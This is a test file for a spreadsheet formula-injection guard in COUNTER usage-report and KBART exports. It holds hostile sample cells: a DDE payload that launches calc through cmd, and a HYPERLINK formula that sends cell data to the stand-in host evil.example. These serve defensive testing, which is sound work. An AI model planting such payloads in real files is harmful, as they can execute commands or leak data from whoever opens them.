// Formula injection in the report and KBART files: hostile titles, publishers and institution
// names are made text; normal values and the counts keep the COUNTER layout unchanged.
import { describe, expect, it } from 'vitest';
import { guardCell } from './formula-guard';
import { buildReport, type UsageCount } from './counter/reports';
import { reportText } from './counter/tabular';
import { KBART_COLUMNS, kbartText } from './kbart';

describe('guardCell', () => {
  it('prefixes an apostrophe to a cell a spreadsheet would take for a formula', () => {
    for (const hostile of ['=1+1', '+SUM(A1)', '-2+3+cmd|" /C calc"!A0', '@SUM(1)', '\t=1', '\r=1', '\n=1', '  =1+1'])
      expect(guardCell(hostile)).toBe(`'${hostile}`);
  });

  it('leaves normal values alone', () => {
    for (const normal of ['Business Weekly', 'दैनिक प्रभात', 'Lectern:12', '2026-03-01', '', 'A-Z of =', "'quoted", 'E=mc²'])
      expect(guardCell(normal)).toBe(normal);
  });
});

const count = (title: string, publisher: string, metric: UsageCount['metric'], n: number): UsageCount => ({
  mid: title.length,
  title,
  publisher,
  type: 'journal',
  free: false,
  yop: 2026,
  metric,
  months: { '2026-03': n },
});
const report = buildReport(
  {
    id: 'TR_J1',
    institution: { id: 7, name: '+Evil, "College"' },
    begin: '2026-03',
    end: '2026-03',
    siteUrl: 'https://lectern.example',
    created: new Date('2026-04-01T00:00:00Z'),
  },
  [
    count('=HYPERLINK("https://evil.example/?"&A1,"Click")', '@Publisher', 'Total_Item_Requests', 3),
    count('Plain Title', 'Meridian', 'Total_Item_Requests', 2),
  ],
);

describe('the report files', () => {
  it('TSV: hostile text cells start with an apostrophe; the rest of the layout is unchanged', () => {
    const lines = reportText(report, 'tsv').slice(1).split('\n');
    expect(lines[3].replace(/\t+$/, '')).toBe('Institution_Name\t\'+Evil, "College"');
    const rows = lines.slice(15, 17).map((l) => l.split('\t'));
    expect(rows[0].slice(0, 2)).toEqual(['\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "'@Publisher"]);
    expect(rows[0].slice(-3)).toEqual(['Total_Item_Requests', '3', '3']);
    expect(rows[1]).toEqual([
      'Plain Title',
      'Meridian',
      '',
      'Lectern',
      '',
      'Lectern:11',
      '',
      '',
      'https://lectern.example/magazine/11',
      'Total_Item_Requests',
      '2',
      '2',
    ]);
  });

  it('CSV: a guarded cell is also quoted, its quotes doubled', () => {
    const lines = reportText(report, 'csv').slice(1).split('\r\n');
    expect(lines[3].replace(/,+$/, '')).toBe('Institution_Name,"\'+Evil, ""College"""');
    expect(lines[15].startsWith('"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","\'@Publisher",,Lectern,')).toBe(true);
    expect(lines[15].endsWith(',Total_Item_Requests,3,3')).toBe(true);
    expect(lines[16]).toBe('Plain Title,Meridian,,Lectern,,Lectern:11,,,https://lectern.example/magazine/11,Total_Item_Requests,2,2');
  });

  it('KBART: titles and publishers guarded, 25 columns kept', () => {
    const ids = { printIssn: null, onlineIssn: null, isbn: null, firstVolume: null, firstNumber: null, lastVolume: null, lastNumber: null };
    const text = kbartText(
      [
        {
          mid: 1,
          title: '-1+1',
          publisher: '\t=cmd',
          free: false,
          firstIssue: '2026-01-01',
          lastIssue: '2026-03-01',
          current: true,
          ...ids,
        },
        {
          mid: 2,
          title: 'Plain',
          publisher: 'Meridian',
          free: true,
          firstIssue: '2026-01-01',
          lastIssue: '2026-03-01',
          current: true,
          ...ids,
        },
      ],
      'https://lectern.example',
    );
    const [, hostile, plain] = text
      .trimEnd()
      .split('\n')
      .map((l) => l.split('\t'));
    const col = (name: (typeof KBART_COLUMNS)[number]) => KBART_COLUMNS.indexOf(name);
    expect([hostile.length, plain.length]).toEqual([25, 25]);
    expect(hostile[col('publication_title')]).toBe("'-1+1");
    expect(hostile[col('publisher_name')]).toBe("' =cmd");
    expect([plain[col('publication_title')], plain[col('publisher_name')], plain[col('access_type')]]).toEqual(['Plain', 'Meridian', 'F']);
  });
});
